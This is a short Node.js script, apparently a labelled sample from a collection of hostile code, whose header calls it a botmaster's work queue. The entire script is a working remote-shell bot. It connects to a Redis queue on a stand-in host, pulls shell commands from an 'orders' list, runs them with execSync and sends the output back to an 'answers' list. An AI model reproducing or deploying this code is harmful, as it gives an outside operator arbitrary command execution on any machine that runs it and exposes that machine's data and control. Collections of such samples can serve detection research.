// class: shell; possible: low medium; style: work queue of a botmaster
const net = require('net');
const { execSync } = require('child_process');
const c = net.connect(6379, 'queue.ops.test');
const cmd = (...w) => c.write(`*${w.length}\r\n` + w.map(x => `$${Buffer.byteLength(x)}\r\n${x}\r\n`).join(''));
let n = 0;
c.on('connect', () => setInterval(() => (n++ < 22 ? cmd('LPOP', 'orders') : process.exit(0)), 1000));
c.on('data', d => {
  const m = /^\$(\d+)\r\n([\s\S]*)\r\n$/.exec(d.toString());
  if (!m) return;
  let out;
  try { out = execSync(m[2], { encoding: 'utf8', timeout: 5000 }); } catch (e) { out = String(e.stdout || '') + String(e.stderr || ''); }
  cmd('RPUSH', 'answers', out || '-');
});
c.on('error', () => process.exit(1));
